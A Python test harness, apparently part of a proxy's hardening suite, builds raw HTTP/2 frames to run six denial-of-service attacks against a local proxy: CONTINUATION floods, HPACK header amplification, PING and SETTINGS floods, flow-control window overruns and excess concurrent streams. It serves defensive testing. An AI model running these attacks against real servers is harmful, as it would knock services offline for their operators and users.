"""Frame-level HTTP/2 abuse against a proxy, for the hardening tests.

Usage: python abuse.py PORT ATTACK
Prints one JSON object: how the proxy answered (GOAWAY code, stream resets, response
statuses), whether it closed the connection, how many frames were sent before that, and the
seconds it took. Frames are built with hyperframe and hpack (the h2 package's own layers),
so the attacks can break the rules the h2 state machine would enforce.

Attacks:
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames without end
  amplify       one HEADERS block whose decoded size is ~1000x its wire size (HPACK
                indexed references to one large dynamic-table entry)
  ping          100k PINGs, never reading the ACKs
  settings      100k SETTINGS, never reading the ACKs
  window        DATA past the stream's flow-control window, on a request to /held (a route
                that holds requests before reading their body)
  streams       more streams opened at once than SETTINGS_MAX_CONCURRENT_STREAMS allows
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")]
DEADLINE = 10.0


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.settings = {}
        self.decoder = hpack.Decoder()
        self.sent = 0
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, frame):
        """Sends a frame; False once the proxy has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.sendall(frame.serialize() if isinstance(frame, Frame) else frame)
            self.sent += 1
            return True
        except OSError:
            self.closed = True
            return False

    def read(self, timeout):
        """Reads frames for up to `timeout` seconds, or until the connection closes."""
        end = time.monotonic() + timeout
        while not self.closed and time.monotonic() < end:
            self.sock.settimeout(max(0.01, end - time.monotonic()))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.stream_id] = frame.error_code
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.settings.update(frame.settings)
                self.send(SettingsFrame(0, flags=["ACK"]))
            elif isinstance(frame, HeadersFrame):
                try:
                    headers = dict(self.decoder.decode(frame.data))
                    status = headers.get(b":status") or headers.get(":status")
                    if status is not None:
                        self.statuses[frame.stream_id] = int(status)
                except Exception:  # noqa: BLE001 - a block we cannot decode is reported as such
                    self.statuses[frame.stream_id] = -1

    def report(self, started, **extra):
        out = {
            "closed": self.closed,
            "goaway": self.goaway,
            "resets": {str(k): v for k, v in self.resets.items()},
            "statuses": {str(k): v for k, v in self.statuses.items()},
            "sent_frames": self.sent,
            "secs": round(time.monotonic() - started, 3),
        }
        out.update(extra)
        return out


def continuation(port):
    c = Conn(port)
    started = time.monotonic()
    enc = hpack.Encoder()
    first = HeadersFrame(1, enc.encode(REQUEST))
    first.flags.add("END_STREAM")
    c.send(first)
    junk = hpack.Encoder().encode([("x-junk", "j" * 1000)], huffman=False)
    for _ in range(20000):
        if not c.send(ContinuationFrame(1, junk)):
            break
        if c.sent % 500 == 0:
            c.read(0.001)
            if c.closed or c.goaway is not None or 1 in c.resets or time.monotonic() - started > DEADLINE:
                break
    c.read(2)
    return c.report(started)


def amplify(port):
    c = Conn(port)
    c.read(0.2)
    started = time.monotonic()
    enc = hpack.Encoder()
    # A 4000-byte literal with incremental indexing, then 2000 one-byte references to it.
    block = enc.encode(REQUEST) + enc.encode([("x-big", "b" * 4000)], huffman=False)
    index = bytes([0x80 | 62])
    block += index * 2000
    frame = HeadersFrame(1, block)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    c.send(frame)
    c.read(3)
    # The connection serves a normal stream afterwards, unless it was closed.
    ok = HeadersFrame(3, hpack.Encoder().encode(REQUEST))
    ok.flags.add("END_HEADERS")
    ok.flags.add("END_STREAM")
    c.send(ok)
    c.read(3)
    return c.report(started, wire_bytes=len(block), decoded_bytes=4000 * 2001)


def flood(port, make):
    c = Conn(port)
    started = time.monotonic()
    # Never reads: whatever the proxy queues for us piles up unless it stops.
    batch = b"".join(make(i).serialize() for i in range(1000))
    for _ in range(100):
        if not c.send(batch) or time.monotonic() - started > DEADLINE:
            break
    c.sent *= 1000
    c.read(3)
    # Does the same connection still serve a request?
    req = HeadersFrame(1, hpack.Encoder().encode(REQUEST))
    req.flags.add("END_HEADERS")
    req.flags.add("END_STREAM")
    c.send(req)
    c.read(3)
    return c.report(started)


def window(port):
    c = Conn(port)
    c.read(0.3)
    started = time.monotonic()
    # To /held, which the proxy's route holds (a fault delay) before it reads any body: it
    # grants no credit meanwhile, so what passes the window is an overrun for certain.
    req = [(":method", "POST"), (":scheme", "http"), (":path", "/held"), (":authority", "a")]
    h = HeadersFrame(1, hpack.Encoder().encode(req))
    h.flags.add("END_HEADERS")
    c.send(h)
    # The initial window is what the proxy advertised (65535 unless SETTINGS said more).
    win = c.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, 65535)
    chunk = b"d" * 16384
    frames = (win + 16384) // len(chunk) + 1
    burst = b"".join(DataFrame(1, chunk).serialize() for _ in range(frames))
    c.send(burst)
    sent = frames * len(chunk)
    c.read(3)
    return c.report(started, window=win, data_sent=sent)


def streams(port):
    c = Conn(port)
    c.read(0.3)
    started = time.monotonic()
    limit = c.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, 100)
    enc = hpack.Encoder()
    # Opened and left open (no END_STREAM): all count as concurrent.
    for i in range(limit + 5):
        h = HeadersFrame(1 + 2 * i, enc.encode([(":method", "POST")] + REQUEST[1:]))
        h.flags.add("END_HEADERS")
        c.send(h)
    c.read(2)
    return c.report(started, limit=limit)


ATTACKS = {
    "continuation": continuation,
    "amplify": amplify,
    "ping": lambda p: flood(p, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))),
    "settings": lambda p: flood(p, lambda i: SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})),
    "window": window,
    "streams": streams,
}

if __name__ == "__main__":
    port, attack = int(sys.argv[1]), sys.argv[2]
    print(json.dumps(ATTACKS[attack](port)))
